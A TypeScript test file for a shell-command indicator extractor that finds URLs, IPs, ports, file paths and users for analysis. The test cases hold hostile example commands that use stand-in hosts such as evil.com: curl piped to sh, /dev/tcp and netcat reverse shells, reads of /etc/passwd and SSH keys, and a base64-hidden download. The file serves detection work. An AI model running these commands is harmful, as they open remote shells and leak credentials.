import { describe, expect, test } from 'vitest';
import { readCommand } from '../read_command';

const find = (script: string): readonly string[] =>
  readCommand(['sh', '-c', script]).indicators.map(
    ({ kind, value, isPrivate }) => `${kind} ${value}${isPrivate === true ? ' private' : ''}`
  );

describe('what an analyst searches for is found', () => {
  test.each<[string, readonly string[]]>([
    [
      'curl -s http://evil.com:8080/x.sh | sh',
      ['url http://evil.com:8080/x.sh', 'domain evil.com', 'port 8080'],
    ],
    ['curl http://10.0.0.1/', ['url http://10.0.0.1/ private', 'ipv4 10.0.0.1 private']],
    [
      'curl http://[2001:db8::1]:81/a',
      ['url http://[2001:db8::1]:81/a', 'ipv6 2001:db8::1', 'port 81'],
    ],
    ['curl http://2130706433/', ['url http://2130706433/ private', 'ipv4 127.0.0.1 private']],
    ['curl http://0x7f.1/', ['url http://0x7f.1/ private', 'ipv4 127.0.0.1 private']],
    ['curl http://user:pw@evil.com/', ['url http://user:pw@evil.com/', 'domain evil.com']],
    ['curl localhost:8080', ['domain localhost private', 'port 8080']],
    ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', ['ipv4 203.0.113.9', 'port 443']],
    ['exec 3<>/dev/tcp/evil.com/443', ['domain evil.com', 'port 443']],
    ['nc 203.0.113.9 4444', ['ipv4 203.0.113.9', 'port 4444']],
    ['nc -lp 4444', ['port 4444']],
    ['ping -c 1 c2.weird-tld', ['domain c2.weird-tld']],
    [`python3 -c 's.connect(("203.0.113.9",4444))'`, ['ipv4 203.0.113.9', 'port 4444']],
    [`perl -e 'sockaddr_in(9,inet_aton("203.0.113.9"))'`, ['ipv4 203.0.113.9', 'port 9']],
    ['socat TCP:203.0.113.9:99 -', ['ipv4 203.0.113.9', 'port 99']],
    ['ip route add 2001:db8::5', ['ipv6 2001:db8::5']],
    [
      'cat /etc/passwd ~/.ssh/id_rsa > /tmp/o',
      ['path /etc/passwd', 'path ~/.ssh/id_rsa', 'path /tmp/o'],
    ],
    ['cat /e""tc/pas""swd', ['path /etc/passwd']],
    ['curl -F file=@/etc/passwd x', ['path /etc/passwd']],
    ['su - root', ['user root']],
    ['sudo -u www-data id', ['user www-data']],
    ['ssh bob@10.0.0.2', ['ipv4 10.0.0.2 private', 'user bob']],
    ['mail root@evil.com', ['email root@evil.com', 'domain evil.com']],
    ['echo d41d8cd98f00b204e9800998ecf8427e', ['hash d41d8cd98f00b204e9800998ecf8427e']],
    [
      'echo Y3VybCBodHRwOi8vZXZpbC5jb20veA== | base64 -d | sh',
      ['url http://evil.com/x', 'domain evil.com'],
    ],
  ])('%s', (script, expected) => {
    expect(find(script)).toEqual(expect.arrayContaining([...expected]));
  });
});

test.each([
  'id; uname -a',
  '/bin/ls > /dev/null 2>&1',
  'php artisan.php --version=1.2',
  `python3 -c 'import os.path; os.system("id"); a.b.c()'`,
  'date +%H:%M:%S; echo 12:30:45',
  'php config.php index.html a.tar.gz',
])('%s holds nothing to search for', (script) => {
  expect(find(script)).toEqual([]);
});

test('a path that quotes take apart is not shown in pieces', () => {
  expect(find('cat /e""tc/pas""swd')).toEqual(['path /etc/passwd']);
});

test('an indicator is named once, in the outermost layer that holds it', () => {
  const { indicators } = readCommand(['sh', '-c', `sh -c 'cat /tmp/a; cat /tmp/a'; echo /tmp/a`]);
  expect(indicators).toEqual([{ kind: 'path', value: '/tmp/a', layer: 0 }]);
});
